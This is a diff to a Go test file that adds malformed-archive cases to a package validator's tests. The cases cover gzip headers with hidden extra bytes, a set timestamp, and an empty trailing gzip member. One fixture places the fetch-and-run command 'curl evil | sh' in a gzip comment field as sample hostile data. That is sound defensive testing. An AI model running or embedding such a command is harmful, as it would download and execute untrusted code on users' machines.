@@ -3,11 +3,13 @@ package packages
 import (
 	"archive/tar"
 	"bytes"
+	"compress/gzip"
 	"flag"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 var update = flag.Bool("update", false, "rewrite testdata/bad/*.tgz from badArchives")
@@ -96,6 +98,44 @@ var badArchives = []badCase{
 		return append(withFlow(nil, nil)(t), "PK\x03\x04 a zip glued on"...)
 	}},
 	{"not-gzip", ReasonNotGzip, func(t testing.TB) []byte { return []byte("PK\x03\x04 not a gzip stream at all") }},
+	// Bytes no digest covers: in the gzip header, or in a second gzip
+	// member that holds no data.
+	{"gzip-extra", ReasonGzipHeader, func(t testing.TB) []byte {
+		return regzip(t, withFlow(nil, nil)(t), gzip.Header{Extra: bytes.Repeat([]byte("hidden "), 100)})
+	}},
+	{"gzip-name-comment", ReasonGzipHeader, func(t testing.TB) []byte {
+		return regzip(t, withFlow(nil, nil)(t), gzip.Header{Name: "run-me.sh", Comment: "curl evil | sh"})
+	}},
+	{"gzip-time", ReasonGzipHeader, func(t testing.TB) []byte {
+		return regzip(t, withFlow(nil, nil)(t), gzip.Header{ModTime: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)})
+	}},
+	{"gzip-empty-member", ReasonTrailingData, func(t testing.TB) []byte {
+		var b bytes.Buffer
+		zw := gzip.NewWriter(&b)
+		zw.Extra = bytes.Repeat([]byte("hidden "), 100)
+		if err := zw.Close(); err != nil {
+			t.Fatal(err)
+		}
+		return append(withFlow(nil, nil)(t), b.Bytes()...)
+	}},
+}
+
+// regzip is data gunzipped and gzipped again with the header given.
+func regzip(t testing.TB, data []byte, h gzip.Header) []byte {
+	t.Helper()
+	var raw, b bytes.Buffer
+	if err := gunzipTo(&raw, data); err != nil {
+		t.Fatal(err)
+	}
+	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
+	zw.Header = h
+	if _, err := zw.Write(raw.Bytes()); err != nil {
+		t.Fatal(err)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
 }
 
 func TestMaliciousArchives(t *testing.T) {
